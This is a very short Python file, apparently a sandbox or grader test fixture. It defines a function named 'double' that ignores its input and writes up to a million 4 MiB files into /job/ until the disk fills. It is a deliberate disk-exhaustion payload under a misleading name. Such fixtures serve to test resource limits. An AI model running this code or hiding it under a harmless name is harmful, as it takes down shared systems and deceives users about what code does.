"""Writes files until there is no room."""


def double(x):
    for number in range(10**6):
        with open(f"/job/{number}", "wb") as file:
            file.write(bytes(1 << 22))
